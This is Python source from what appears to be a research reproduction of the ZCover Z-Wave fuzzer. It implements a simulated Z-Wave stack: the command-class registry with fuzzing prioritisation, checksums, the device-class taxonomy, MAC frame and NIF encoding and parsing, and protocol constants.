            if cls.cluster in CONTROLLER_CLUSTERS:
                ids.append(cls.id)
            elif include_proprietary and cls.cluster is Cluster.PROPRIETARY:
                ids.append(cls.id)
        return tuple(sorted(ids))

    # -- prioritisation (Figure 5) ------------------------------------------

    def command_count(self, cls_id: int) -> int:
        """Number of commands defined for class *cls_id*."""
        return self.require(cls_id).command_count

    def command_distribution(
        self, cls_ids: Optional[Sequence[int]] = None
    ) -> List[Tuple[CommandClass, int]]:
        """Return (class, #commands) pairs sorted by descending count.

        This is the data behind Figure 5; ties are broken by ascending
        class identifier so the ordering is deterministic.
        """
        classes = (
            [self.require(i) for i in cls_ids] if cls_ids is not None else list(self)
        )
        ranked = sorted(classes, key=lambda c: (-c.command_count, c.id))
        return [(c, c.command_count) for c in ranked]

    def prioritize(self, cls_ids: Sequence[int]) -> Tuple[int, ...]:
        """Order *cls_ids* for fuzzing: most commands first (Section III-C1).

        "ZCover gives higher priority to discovered unlisted CMDCLs that
        support more CMDs [...] the more functionalities included, the
        higher the likelihood of potential implementation bugs."
        """
        known = [i for i in cls_ids if i in self]
        unknown = sorted(i for i in cls_ids if i not in self)
        ranked = sorted(known, key=lambda i: (-self.command_count(i), i))
        return tuple(ranked + unknown)


# The registries are immutable views over frozen CommandClass definitions,
# so each variant is built once per process and shared: every campaign,
# controller and mutator previously re-parsed the whole spec on startup.
_PUBLIC_REGISTRY: Optional[SpecRegistry] = None
_FULL_REGISTRY: Optional[SpecRegistry] = None


def load_public_registry() -> SpecRegistry:
    """Registry of the 122 public specification classes only.

    This mirrors parsing the Z-Wave Alliance specification release plus the
    ``ZWave_custom_cmd_classes.xml`` definitions file.
    """
    global _PUBLIC_REGISTRY
    if _PUBLIC_REGISTRY is None:
        registry = SpecRegistry(build_public_spec())
        if len(registry) != PUBLIC_SPEC_CLASS_COUNT:
            raise AssertionError(
                f"public spec must define {PUBLIC_SPEC_CLASS_COUNT} classes, got {len(registry)}"
            )
        _PUBLIC_REGISTRY = registry
    return _PUBLIC_REGISTRY


def load_full_registry() -> SpecRegistry:
    """Registry including the proprietary classes (0x01, 0x02).

    This is the *ground truth* the simulator's firmware uses; ZCover itself
    must start from :func:`load_public_registry` and earn knowledge of the
    proprietary classes through validation testing.
    """
    global _FULL_REGISTRY
    if _FULL_REGISTRY is None:
        _FULL_REGISTRY = SpecRegistry(build_all_classes().values())
    return _FULL_REGISTRY


def proprietary_class_ids() -> Tuple[int, ...]:
    """Identifiers of the classes absent from the public specification."""
    return tuple(sorted(c.id for c in build_proprietary_classes()))
