"""Z-Wave frame integrity checks: CS-8 XOR checksum and CRC-16/AUG-CCITT.

Legacy (pre-100-series) Z-Wave frames carry a one-byte XOR checksum seeded
with ``0xFF``; newer chips use CRC-16 with the CCITT polynomial ``0x1021``
and initial value ``0x1D0F``.  Both are implemented here so the simulated
radio can interoperate with legacy and modern virtual devices, mirroring the
"CS-8/CRC-16" note in Section II-A1 of the paper.
"""

from __future__ import annotations

from typing import Iterable

CRC16_POLY = 0x1021
CRC16_INIT = 0x1D0F


def cs8(data: bytes | bytearray | Iterable[int]) -> int:
    """Return the legacy one-byte XOR checksum over *data*.

    The checksum is seeded with ``0xFF`` and XORs every byte of the frame
    (header plus payload, excluding the checksum byte itself).

    >>> hex(cs8(b"\\x01\\x02\\x03"))
    '0xff'
    """
    acc = 0xFF
    for byte in data:
        acc ^= byte & 0xFF
    return acc


def verify_cs8(data: bytes, checksum: int) -> bool:
    """Return ``True`` when *checksum* matches the CS-8 of *data*."""
    return cs8(data) == (checksum & 0xFF)


def crc16(data: bytes | bytearray | Iterable[int]) -> int:
    """Return the CRC-16/AUG-CCITT checksum used by 100+-series chips.

    Polynomial ``0x1021``, initial value ``0x1D0F``, no reflection, no final
    XOR — the variant mandated by ITU-T G.9959 for R3 frames.
    """
    crc = CRC16_INIT
    for byte in data:
        crc ^= (byte & 0xFF) << 8
        for _ in range(8):
            if crc & 0x8000:
                crc = ((crc << 1) ^ CRC16_POLY) & 0xFFFF
            else:
                crc = (crc << 1) & 0xFFFF
    return crc


def verify_crc16(data: bytes, checksum: int) -> bool:
    """Return ``True`` when *checksum* matches the CRC-16 of *data*."""
    return crc16(data) == (checksum & 0xFFFF)
