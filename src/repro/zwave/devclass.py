"""The Z-Wave device-class taxonomy (basic / generic / specific).

Every node self-describes through a three-level classification carried in
its NIF; the controller uses it to decide which command classes to expect
(Section III-C1's clustering leans on the same idea).  This module encodes
the taxonomy as data and provides the lookups the dissector, the NIF
tooling and the discovery heuristics use.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Tuple

from .nif import BasicDeviceClass

#: Basic device class names.
BASIC_CLASS_NAMES: Dict[int, str] = {
    0x01: "CONTROLLER",
    0x02: "STATIC_CONTROLLER",
    0x03: "SLAVE",
    0x04: "ROUTING_SLAVE",
}


@dataclass(frozen=True)
class SpecificClass:
    """One specific device class within a generic class."""

    id: int
    name: str
    typical_cmdcls: Tuple[int, ...] = ()


@dataclass(frozen=True)
class GenericClass:
    """One generic device class with its specific refinements."""

    id: int
    name: str
    specifics: Tuple[SpecificClass, ...] = ()
    typical_cmdcls: Tuple[int, ...] = ()

    def specific(self, specific_id: int) -> Optional[SpecificClass]:
        for spec in self.specifics:
            if spec.id == specific_id:
                return spec
        return None


def _g(gid: int, name: str, cmdcls: Tuple[int, ...], *specifics) -> GenericClass:
    return GenericClass(gid, name, tuple(specifics), cmdcls)


def _s(sid: int, name: str, cmdcls: Tuple[int, ...] = ()) -> SpecificClass:
    return SpecificClass(sid, name, cmdcls)


#: The generic device classes of the device-class specification (subset
#: covering the testbed plus the common smart-home taxonomy).
GENERIC_CLASSES: Tuple[GenericClass, ...] = (
    _g(0x01, "GENERIC_CONTROLLER", (0x20, 0x72, 0x86),
       _s(0x01, "PORTABLE_REMOTE_CONTROLLER"),
       _s(0x02, "PORTABLE_SCENE_CONTROLLER", (0x2B, 0x2C)),
       _s(0x06, "REMOTE_CONTROL_AV"),
       _s(0x07, "REMOTE_CONTROL_SIMPLE")),
    _g(0x02, "STATIC_CONTROLLER", (0x20, 0x72, 0x86, 0x98, 0x9F),
       _s(0x01, "PC_CONTROLLER"),
       _s(0x02, "SCENE_CONTROLLER", (0x2B,)),
       _s(0x03, "STATIC_INSTALLER_TOOL"),
       _s(0x07, "GATEWAY", (0x5E, 0x6C))),
    _g(0x08, "THERMOSTAT", (0x20, 0x40, 0x43, 0x72, 0x86),
       _s(0x01, "THERMOSTAT_HEATING"),
       _s(0x02, "THERMOSTAT_GENERAL", (0x40, 0x42, 0x43, 0x44)),
       _s(0x06, "THERMOSTAT_GENERAL_V2")),
    _g(0x10, "BINARY_SWITCH", (0x20, 0x25, 0x72, 0x86),
       _s(0x01, "POWER_SWITCH_BINARY", (0x25, 0x27)),
       _s(0x03, "SCENE_SWITCH_BINARY", (0x25, 0x2B)),
       _s(0x05, "SIREN", (0x25, 0x71))),
    _g(0x11, "MULTILEVEL_SWITCH", (0x20, 0x26, 0x72, 0x86),
       _s(0x01, "POWER_SWITCH_MULTILEVEL", (0x26, 0x27)),
       _s(0x05, "MOTOR_CONTROL_A", (0x25, 0x26)),
       _s(0x06, "MOTOR_CONTROL_B"),
       _s(0x07, "MOTOR_CONTROL_C")),
    _g(0x12, "REMOTE_SWITCH", (0x20,),
       _s(0x01, "SWITCH_REMOTE_BINARY", (0x25,))),
    _g(0x20, "SENSOR_BINARY", (0x20, 0x30, 0x72, 0x80, 0x86),
       _s(0x01, "ROUTING_SENSOR_BINARY", (0x30,))),
    _g(0x21, "SENSOR_MULTILEVEL", (0x20, 0x31, 0x72, 0x80, 0x86),
       _s(0x01, "ROUTING_SENSOR_MULTILEVEL", (0x31,))),
    _g(0x31, "METER", (0x20, 0x32, 0x72, 0x86),
       _s(0x01, "SIMPLE_METER", (0x32,))),
    _g(0x40, "ENTRY_CONTROL", (0x20, 0x62, 0x72, 0x80, 0x86, 0x98, 0x9F),
       _s(0x01, "DOOR_LOCK", (0x62,)),
       _s(0x02, "ADVANCED_DOOR_LOCK", (0x62, 0x63)),
       _s(0x03, "SECURE_KEYPAD_DOOR_LOCK", (0x62, 0x63, 0x4C)),
       _s(0x07, "SECURE_BARRIER_ADDON", (0x66,))),
    _g(0xA1, "SENSOR_ALARM", (0x20, 0x71, 0x72, 0x80, 0x86),
       _s(0x01, "BASIC_ROUTING_ALARM_SENSOR", (0x71, 0x9C)),
       _s(0x05, "ZENSOR_NET_ALARM_SENSOR", (0x02, 0x71))),
)

_GENERIC_BY_ID: Dict[int, GenericClass] = {g.id: g for g in GENERIC_CLASSES}


def generic_class(generic_id: int) -> Optional[GenericClass]:
    """Return the generic class with identifier *generic_id*."""
    return _GENERIC_BY_ID.get(generic_id)


def describe_device(basic: int, generic: int, specific: int = 0x00) -> str:
    """Human-readable description of a (basic, generic, specific) triple.

    >>> describe_device(0x02, 0x02, 0x07)
    'STATIC_CONTROLLER / STATIC_CONTROLLER / GATEWAY'
    """
    basic_name = BASIC_CLASS_NAMES.get(basic, f"0x{basic:02X}")
    gen = generic_class(generic)
    if gen is None:
        return f"{basic_name} / 0x{generic:02X} / 0x{specific:02X}"
    if specific == 0x00:
        return f"{basic_name} / {gen.name}"
    spec = gen.specific(specific)
    spec_name = spec.name if spec else f"0x{specific:02X}"
    return f"{basic_name} / {gen.name} / {spec_name}"


def expected_cmdcls(generic: int, specific: int = 0x00) -> Tuple[int, ...]:
    """Command classes a device of this type typically implements.

    Used as a reconnaissance heuristic: when a NIF is unavailable, the
    device class alone predicts most of the command surface.
    """
    gen = generic_class(generic)
    if gen is None:
        return ()
    classes = set(gen.typical_cmdcls)
    spec = gen.specific(specific)
    if spec is not None:
        classes |= set(spec.typical_cmdcls)
    return tuple(sorted(classes))


def is_controller_class(basic: int) -> bool:
    """Whether the basic class denotes a controller-role node."""
    return basic in (BasicDeviceClass.CONTROLLER, BasicDeviceClass.STATIC_CONTROLLER)
