"""Z-Wave protocol substrate: frames, checksums, application layer, spec.

This package implements the protocol machinery the paper's Figure 1 and
Section II-A describe — everything ZCover and the simulated devices need to
speak Z-Wave without real hardware.
"""

from .application import (
    ApplicationPayload,
    Validity,
    ValidationResult,
    build_valid_payload,
    validate_payload,
)
from .checksum import crc16, cs8, verify_crc16, verify_cs8
from .cmdclass import (
    Cluster,
    Command,
    CommandClass,
    CommandKind,
    Direction,
    Parameter,
    ParamKind,
)
from .constants import (
    BROADCAST_NODE_ID,
    CONTROLLER_NODE_ID,
    MAX_APL_PAYLOAD_SIZE,
    MAX_MAC_FRAME_SIZE,
    HeaderType,
    Region,
    TransportMode,
)
from .frame import ZWaveFrame, make_nop, make_singlecast
from .nif import (
    BasicDeviceClass,
    GenericDeviceClass,
    NodeInfo,
    encode_nif_report,
    encode_nif_request,
    is_nif_report,
    is_nif_request,
    parse_nif_report,
)
from .registry import (
    SpecRegistry,
    load_full_registry,
    load_public_registry,
    proprietary_class_ids,
)

__all__ = [
    "ApplicationPayload",
    "BasicDeviceClass",
    "BROADCAST_NODE_ID",
    "build_valid_payload",
    "Cluster",
    "Command",
    "CommandClass",
    "CommandKind",
    "CONTROLLER_NODE_ID",
    "crc16",
    "cs8",
    "Direction",
    "encode_nif_report",
    "encode_nif_request",
    "GenericDeviceClass",
    "HeaderType",
    "is_nif_report",
    "is_nif_request",
    "load_full_registry",
    "load_public_registry",
    "make_nop",
    "make_singlecast",
    "MAX_APL_PAYLOAD_SIZE",
    "MAX_MAC_FRAME_SIZE",
    "NodeInfo",
    "Parameter",
    "ParamKind",
    "parse_nif_report",
    "proprietary_class_ids",
    "Region",
    "SpecRegistry",
    "TransportMode",
    "Validity",
    "ValidationResult",
    "validate_payload",
    "verify_crc16",
    "verify_cs8",
    "ZWaveFrame",
]
