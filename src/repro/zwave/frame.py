"""Z-Wave MAC frame encoding and decoding (Figure 1 of the paper).

A frame is laid out as::

    H-ID(4) | SRC(1) | P1(1) | P2(1) | LEN(1) | DST(1) | APL payload | CS(1)

``LEN`` counts the whole frame including the checksum byte, matching the
G.9959 MPDU convention.  Decoding is strict by default (checksum and length
verified) but can be performed leniently for the sniffer, which must be able
to show malformed frames instead of dropping them.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, Optional, Tuple

from ..errors import ChecksumError, FrameError, FrameTooLargeError
from . import constants as const
from .checksum import cs8

#: Strict decodes keyed by raw bytes.  Every transmission is decoded once
#: per receiving endpoint (controller, slaves, attacker dongle), and ack /
#: NOP frames repeat verbatim throughout a campaign, so sharing the
#: immutable decoded instance removes most codec work from the hot loop.
#: Purely an allocation cache: equal raw bytes decode to equal frames, so
#: cache state can never alter behaviour.
_DECODE_CACHE: Dict[bytes, "ZWaveFrame"] = {}
_DECODE_CACHE_MAX = 4096


@dataclass(frozen=True)
class ZWaveFrame:
    """An immutable Z-Wave MAC frame.

    ``payload`` is the raw application-layer bytes (CMDCL | CMD | PARAMs).
    ``checksum`` is filled in automatically on encode when ``None``.
    """

    home_id: int
    src: int
    dst: int
    payload: bytes = b""
    header_type: int = const.HeaderType.SINGLECAST
    ack_request: bool = True
    low_power: bool = False
    speed_modified: bool = False
    routed: bool = False
    sequence: int = 0
    checksum: Optional[int] = field(default=None, compare=False)

    def __post_init__(self) -> None:
        if not 0 <= self.home_id <= 0xFFFFFFFF:
            raise FrameError(f"home id {self.home_id:#x} out of 32-bit range")
        for label, value in (("src", self.src), ("dst", self.dst)):
            if not 0 <= value <= 0xFF:
                raise FrameError(f"{label} node id {value} out of byte range")
        if not 0 <= self.sequence <= 0x0F:
            raise FrameError(f"sequence {self.sequence} out of nibble range")
        total = const.MAC_HEADER_SIZE + len(self.payload) + const.CS8_TRAILER_SIZE
        if total > const.MAX_MAC_FRAME_SIZE:
            raise FrameTooLargeError(
                f"frame of {total} bytes exceeds the {const.MAX_MAC_FRAME_SIZE}-byte maximum"
            )

    # -- field helpers -------------------------------------------------------

    @property
    def p1(self) -> int:
        """The frame-control P1 byte: flags nibble | header type nibble."""
        flags = 0
        if self.routed:
            flags |= const.P1_ROUTED_FLAG
        if self.ack_request:
            flags |= const.P1_ACK_REQUEST_FLAG
        if self.low_power:
            flags |= const.P1_LOW_POWER_FLAG
        if self.speed_modified:
            flags |= const.P1_SPEED_MODIFIED_FLAG
        return flags | (self.header_type & 0x0F)

    @property
    def p2(self) -> int:
        """The frame-control P2 byte carrying the sequence number."""
        return self.sequence & const.P2_SEQUENCE_MASK

    @property
    def length(self) -> int:
        """The LEN field: total frame size including the checksum."""
        return const.MAC_HEADER_SIZE + len(self.payload) + const.CS8_TRAILER_SIZE

    @property
    def cmdcl(self) -> Optional[int]:
        """The application-layer command class, if a payload is present."""
        return self.payload[0] if self.payload else None

    @property
    def cmd(self) -> Optional[int]:
        """The application-layer command, if present."""
        return self.payload[1] if len(self.payload) >= 2 else None

    @property
    def params(self) -> bytes:
        """The application-layer parameter bytes (may be empty)."""
        return self.payload[2:]

    @property
    def is_ack(self) -> bool:
        """Whether this is a MAC-level acknowledgement frame."""
        return (self.header_type & 0x0F) == const.HeaderType.ACK

    @property
    def is_broadcast(self) -> bool:
        """Whether the frame is addressed to every node."""
        return self.dst == const.BROADCAST_NODE_ID

    # -- codec ----------------------------------------------------------------

    def encode(self) -> bytes:
        """Serialise the frame, computing the CS-8 checksum if unset.

        The serialisation is memoised on the (immutable) instance: the
        fuzzer, dongle and liveness monitor all encode the same frame
        object, and only the first call pays for the byte assembly.
        """
        raw = self.__dict__.get("_raw")
        if raw is not None:
            return raw
        body = bytearray()
        body += self.home_id.to_bytes(4, "big")
        body.append(self.src)
        body.append(self.p1)
        body.append(self.p2)
        body.append(self.length)
        body.append(self.dst)
        body += self.payload
        checksum = self.checksum if self.checksum is not None else cs8(body)
        body.append(checksum & 0xFF)
        raw = bytes(body)
        object.__setattr__(self, "_raw", raw)
        return raw

    @classmethod
    def decode(cls, raw: bytes, verify: bool = True) -> "ZWaveFrame":
        """Parse *raw* bytes into a frame.

        With ``verify=True`` the length field and checksum are enforced
        (``FrameError`` / ``ChecksumError`` on mismatch), which is how a
        device's MAC layer behaves.  With ``verify=False`` the sniffer-style
        best-effort parse accepts inconsistent frames.
        """
        raw = bytes(raw)  # no-op for bytes; makes bytearray input hashable
        if verify:
            cached = _DECODE_CACHE.get(raw)
            if cached is not None:
                return cached
        minimum = const.MAC_HEADER_SIZE + const.CS8_TRAILER_SIZE
        if len(raw) < minimum:
            raise FrameError(f"frame of {len(raw)} bytes is shorter than {minimum}")
        if len(raw) > const.MAX_MAC_FRAME_SIZE:
            raise FrameTooLargeError(f"frame of {len(raw)} bytes exceeds the MAC maximum")
        home_id = int.from_bytes(raw[const.HOME_ID_SLICE], "big")
        src = raw[const.SRC_OFFSET]
        p1 = raw[const.P1_OFFSET]
        p2 = raw[const.P2_OFFSET]
        length = raw[const.LEN_OFFSET]
        dst = raw[const.DST_OFFSET]
        payload = raw[const.APL_OFFSET : -1]
        checksum = raw[-1]
        if verify:
            if length != len(raw):
                raise FrameError(f"LEN field {length} disagrees with frame size {len(raw)}")
            expected = cs8(raw[:-1])
            if checksum != expected:
                raise ChecksumError(
                    f"checksum {checksum:#04x} does not match computed {expected:#04x}"
                )
        frame = cls(
            home_id=home_id,
            src=src,
            dst=dst,
            payload=bytes(payload),
            header_type=p1 & 0x0F,
            ack_request=bool(p1 & const.P1_ACK_REQUEST_FLAG),
            low_power=bool(p1 & const.P1_LOW_POWER_FLAG),
            speed_modified=bool(p1 & const.P1_SPEED_MODIFIED_FLAG),
            routed=bool(p1 & const.P1_ROUTED_FLAG),
            sequence=p2 & const.P2_SEQUENCE_MASK,
            checksum=checksum,
        )
        if verify:
            # A verified frame re-encodes to exactly *raw* (LEN and CS are
            # consistent by construction), so the codec memo can be seeded;
            # lenient parses may disagree with their re-encoding and are
            # never cached.
            object.__setattr__(frame, "_raw", raw)
            if len(_DECODE_CACHE) >= _DECODE_CACHE_MAX:
                _DECODE_CACHE.clear()
            _DECODE_CACHE[raw] = frame
        return frame

    # -- constructors ----------------------------------------------------------

    def reply(self, payload: bytes = b"", **overrides) -> "ZWaveFrame":
        """Build a frame back to this frame's sender on the same network."""
        fields = dict(
            home_id=self.home_id,
            src=self.dst if self.dst != const.BROADCAST_NODE_ID else self.src,
            dst=self.src,
            payload=payload,
            sequence=self.sequence,
        )
        fields.update(overrides)
        return ZWaveFrame(**fields)

    def ack(self) -> "ZWaveFrame":
        """Build the MAC acknowledgement for this frame."""
        return self.reply(
            b"", header_type=const.HeaderType.ACK, ack_request=False
        )

    def with_payload(self, payload: bytes) -> "ZWaveFrame":
        """Return a copy carrying *payload* (checksum recomputed on encode)."""
        return replace(self, payload=payload, checksum=None)


class FrameView:
    """A zero-copy lazy view over raw MAC frame bytes.

    The sniffer-side twin of :meth:`ZWaveFrame.decode(verify=False)
    <ZWaveFrame.decode>`: it exposes the same read-only field API but
    performs **no** parsing up front — each field is decoded from the
    underlying buffer only when a handler or oracle touches it.  The
    capture path allocates one of these per sniffed frame, so the common
    consumers (the liveness monitor's ack scan, the dst filters) read two
    or three bytes instead of paying a full dataclass decode.

    Lifetime rule: the view borrows ``raw`` — it never copies the buffer.
    ``raw`` is ``bytes`` everywhere in the tree (immutable), so views may
    be held indefinitely; if a caller ever constructs one over a mutable
    ``memoryview``/``bytearray``, the view is only valid until the buffer
    mutates.  :meth:`to_frame` materialises an eager, owning
    :class:`ZWaveFrame` when dataclass semantics are needed.

    Construct through :func:`lenient_view`, which applies exactly the
    length checks under which the lenient decode would have failed.
    """

    __slots__ = ("raw", "_payload")

    def __init__(self, raw: bytes):
        self.raw = raw
        self._payload: Optional[bytes] = None

    # -- lazy field decode ----------------------------------------------------

    @property
    def home_id(self) -> int:
        return int.from_bytes(self.raw[const.HOME_ID_SLICE], "big")

    @property
    def src(self) -> int:
        return self.raw[const.SRC_OFFSET]

    @property
    def dst(self) -> int:
        return self.raw[const.DST_OFFSET]

    @property
    def p1(self) -> int:
        return self.raw[const.P1_OFFSET]

    @property
    def p2(self) -> int:
        return self.raw[const.P2_OFFSET]

    @property
    def header_type(self) -> int:
        return self.raw[const.P1_OFFSET] & 0x0F

    @property
    def ack_request(self) -> bool:
        return bool(self.raw[const.P1_OFFSET] & const.P1_ACK_REQUEST_FLAG)

    @property
    def low_power(self) -> bool:
        return bool(self.raw[const.P1_OFFSET] & const.P1_LOW_POWER_FLAG)

    @property
    def speed_modified(self) -> bool:
        return bool(self.raw[const.P1_OFFSET] & const.P1_SPEED_MODIFIED_FLAG)

    @property
    def routed(self) -> bool:
        return bool(self.raw[const.P1_OFFSET] & const.P1_ROUTED_FLAG)

    @property
    def sequence(self) -> int:
        return self.raw[const.P2_OFFSET] & const.P2_SEQUENCE_MASK

    @property
    def checksum(self) -> int:
        return self.raw[-1]

    @property
    def length(self) -> int:
        # A decoded frame's ``length`` is computed from its payload, which
        # the lenient parse slices out of the buffer — so it always equals
        # the buffer size, whatever the (unverified) LEN field claims.
        return len(self.raw)

    @property
    def is_ack(self) -> bool:
        return (self.raw[const.P1_OFFSET] & 0x0F) == const.HeaderType.ACK

    @property
    def is_broadcast(self) -> bool:
        return self.raw[const.DST_OFFSET] == const.BROADCAST_NODE_ID

    @property
    def payload(self) -> bytes:
        """The APL bytes, sliced out of the buffer on first touch."""
        payload = self._payload
        if payload is None:
            payload = self._payload = bytes(self.raw[const.APL_OFFSET:-1])
        return payload

    @property
    def cmdcl(self) -> Optional[int]:
        if len(self.raw) <= const.APL_OFFSET + 1:
            return None  # empty payload
        return self.raw[const.APL_OFFSET]

    @property
    def cmd(self) -> Optional[int]:
        if len(self.raw) <= const.APL_OFFSET + 2:
            return None
        return self.raw[const.APL_OFFSET + 1]

    @property
    def params(self) -> bytes:
        return self.payload[2:]

    # -- materialisation -------------------------------------------------------

    def to_frame(self) -> ZWaveFrame:
        """Eagerly decode into a full (owning) :class:`ZWaveFrame`."""
        return ZWaveFrame.decode(self.raw, verify=False)

    def __repr__(self) -> str:
        return f"FrameView({self.raw.hex()})"


def lenient_view(raw: bytes) -> Optional[FrameView]:
    """Wrap *raw* in a :class:`FrameView`, or ``None`` if undissectable.

    Returns ``None`` exactly when ``ZWaveFrame.decode(raw, verify=False)``
    would raise: the buffer is shorter than the MAC header plus checksum,
    or longer than the MAC maximum.  (The lenient parse enforces nothing
    else — every in-range buffer dissects.)
    """
    if not const.MAC_HEADER_SIZE + const.CS8_TRAILER_SIZE <= len(raw) <= const.MAX_MAC_FRAME_SIZE:
        return None
    return FrameView(raw)


def make_singlecast(
    home_id: int, src: int, dst: int, payload: bytes, sequence: int = 0
) -> ZWaveFrame:
    """Convenience constructor for an ordinary data frame."""
    return ZWaveFrame(
        home_id=home_id, src=src, dst=dst, payload=payload, sequence=sequence
    )


def make_nop(home_id: int, src: int, dst: int, sequence: int = 0) -> ZWaveFrame:
    """Build the NOP "ping" frame used for liveness monitoring.

    Section IV-A: "we assess test cases by monitoring controller liveliness
    using NOP ping packets."  A NOP is a singlecast frame whose payload is
    the single byte 0x00.
    """
    return ZWaveFrame(
        home_id=home_id,
        src=src,
        dst=dst,
        payload=bytes([const.NOP_CMDCL]),
        sequence=sequence,
    )
