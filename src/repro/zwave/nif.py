"""Node Information Frame (NIF) encoding and parsing.

Active scanning (Section III-B2) drives device reconnaissance through NIF
exchanges: "when we request the controller via a NIF packet, the controller
responds with its listed supported CMDCLs".  On the wire a NIF travels as a
Z-Wave protocol frame (command class 0x01, command 0x01) whose body carries
the device classification followed by the *listed* command classes::

    0x01 | 0x01 | capability | basic | generic | specific | CMDCL...

The request form carries no body.  Note the asymmetry the paper exploits:
the NIF lists only what the vendor chose to advertise, not everything the
firmware implements.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import IntEnum
from typing import Optional, Tuple

from ..errors import FrameError
from .application import ApplicationPayload

#: Protocol command class and command carrying node information.
NIF_CMDCL = 0x01
NIF_CMD = 0x01

#: Capability byte flags.
CAP_LISTENING = 0x80
CAP_ROUTING = 0x40
CAP_BEAM_250MS = 0x20
CAP_SECURITY = 0x10


class BasicDeviceClass(IntEnum):
    """Basic device classes from the device-class specification."""

    CONTROLLER = 0x01
    STATIC_CONTROLLER = 0x02
    SLAVE = 0x03
    ROUTING_SLAVE = 0x04


class GenericDeviceClass(IntEnum):
    """Generic device classes (subset relevant to the testbed)."""

    GENERIC_CONTROLLER = 0x01
    STATIC_CONTROLLER = 0x02
    ENTRY_CONTROL = 0x40
    BINARY_SWITCH = 0x10
    MULTILEVEL_SWITCH = 0x11
    SENSOR_BINARY = 0x20
    SENSOR_MULTILEVEL = 0x21


@dataclass(frozen=True)
class NodeInfo:
    """The device self-description a NIF carries."""

    basic: int
    generic: int
    specific: int = 0x00
    listening: bool = True
    routing: bool = True
    security: bool = False
    listed_cmdcls: Tuple[int, ...] = field(default_factory=tuple)

    def __post_init__(self) -> None:
        for label, value in (
            ("basic", self.basic),
            ("generic", self.generic),
            ("specific", self.specific),
        ):
            if not 0 <= value <= 0xFF:
                raise FrameError(f"{label} device class {value} out of byte range")
        if any(not 0 <= c <= 0xFF for c in self.listed_cmdcls):
            raise FrameError("listed command class out of byte range")

    @property
    def capability(self) -> int:
        """The packed capability byte."""
        cap = 0
        if self.listening:
            cap |= CAP_LISTENING
        if self.routing:
            cap |= CAP_ROUTING
        if self.security:
            cap |= CAP_SECURITY
        return cap

    @property
    def is_controller(self) -> bool:
        """Whether the node self-describes as a (static) controller."""
        return self.basic in (
            BasicDeviceClass.CONTROLLER,
            BasicDeviceClass.STATIC_CONTROLLER,
        )


def encode_nif_request() -> ApplicationPayload:
    """Build the NIF request payload (protocol frame, empty body)."""
    return ApplicationPayload(NIF_CMDCL, NIF_CMD, b"")


def encode_nif_report(info: NodeInfo) -> ApplicationPayload:
    """Build the NIF report payload advertising *info*."""
    body = bytearray([info.capability, info.basic, info.generic, info.specific])
    body += bytes(info.listed_cmdcls)
    return ApplicationPayload(NIF_CMDCL, NIF_CMD, bytes(body))


def is_nif_request(payload: ApplicationPayload) -> bool:
    """Whether *payload* is a NIF request (no body)."""
    return (
        payload.cmdcl == NIF_CMDCL and payload.cmd == NIF_CMD and not payload.params
    )


def is_nif_report(payload: ApplicationPayload) -> bool:
    """Whether *payload* looks like a NIF report (has a body)."""
    return (
        payload.cmdcl == NIF_CMDCL
        and payload.cmd == NIF_CMD
        and len(payload.params) >= 4
    )


def parse_nif_report(payload: ApplicationPayload) -> Optional[NodeInfo]:
    """Parse a NIF report back into :class:`NodeInfo` (``None`` if not one)."""
    if not is_nif_report(payload):
        return None
    capability, basic, generic, specific = payload.params[:4]
    return NodeInfo(
        basic=basic,
        generic=generic,
        specific=specific,
        listening=bool(capability & CAP_LISTENING),
        routing=bool(capability & CAP_ROUTING),
        security=bool(capability & CAP_SECURITY),
        listed_cmdcls=tuple(payload.params[4:]),
    )
