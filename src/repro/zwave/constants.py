"""Protocol-level constants for the simulated Z-Wave stack.

Values follow the public ITU-T G.9959 / Z-Wave specification where the paper
relies on them (frame geometry, frequencies, header types) and are chosen to
match Figure 1 of the ZCover paper: a MAC frame of

    H-ID(4) | SRC(1) | P1(1) | P2(1) | LEN(1) | DST(1) | APL payload | CS(1)

with the application payload being ``CMDCL | CMD | PARAM...``.
"""

from __future__ import annotations

from enum import IntEnum

#: Maximum size of a Z-Wave MAC frame in bytes (Section II-A of the paper).
MAX_MAC_FRAME_SIZE = 64

#: Size of the MAC header: home id (4) + src (1) + P1 (1) + P2 (1) +
#: len (1) + dst (1).
MAC_HEADER_SIZE = 9

#: Size of the single-byte CS-8 checksum trailer.
CS8_TRAILER_SIZE = 1

#: Size of the CRC-16 trailer used by 100-series-and-later chips.
CRC16_TRAILER_SIZE = 2

#: Maximum application-layer payload with a CS-8 trailer.
MAX_APL_PAYLOAD_SIZE = MAX_MAC_FRAME_SIZE - MAC_HEADER_SIZE - CS8_TRAILER_SIZE

#: Broadcast destination node id.
BROADCAST_NODE_ID = 0xFF

#: Node id reserved for "uninitialised".
UNASSIGNED_NODE_ID = 0x00

#: The controller in a freshly-built network is always node 1 (Table IV).
CONTROLLER_NODE_ID = 0x01

#: Number of possible command-class identifiers (one byte).
CMDCL_SPACE = 256

#: Number of possible command identifiers (one byte).
CMD_SPACE = 256


class Region(IntEnum):
    """RF regions with their centre frequencies in kHz.

    The paper's testbed tunes the YardStick One to 868 or 908 MHz.
    """

    EU = 868_400
    US = 908_400
    ANZ = 919_800
    HK = 919_800
    IN = 865_200
    IL = 916_000
    RU = 869_000
    CN = 868_400
    JP = 922_500
    KR = 920_900


#: Supported sampling rates for the virtual transceiver, in kilobaud.
#: R1/R2/R3 are the three G.9959 data rates.
DATA_RATES_KBAUD = (9.6, 40.0, 100.0)


class HeaderType(IntEnum):
    """Frame-control P1 header types (lower nibble of P1)."""

    SINGLECAST = 0x01
    MULTICAST = 0x02
    ACK = 0x03
    ROUTED = 0x08


#: P1 bit flags (upper nibble).
P1_ROUTED_FLAG = 0x80
P1_ACK_REQUEST_FLAG = 0x40
P1_LOW_POWER_FLAG = 0x20
P1_SPEED_MODIFIED_FLAG = 0x10

#: P2 fields: upper nibble reserved/sequence, lower nibble beam/routing info.
P2_SEQUENCE_MASK = 0x0F


class TransportMode(IntEnum):
    """The three Z-Wave transport encapsulation modes (Section II-A1)."""

    NO_SECURITY = 0
    S0 = 1
    S2 = 2


#: Byte offsets of MAC header fields inside a raw frame (Figure 1).
HOME_ID_SLICE = slice(0, 4)
SRC_OFFSET = 4
P1_OFFSET = 5
P2_OFFSET = 6
LEN_OFFSET = 7
DST_OFFSET = 8
APL_OFFSET = 9

#: The NOP "ping" used for liveness monitoring is a zero-length payload
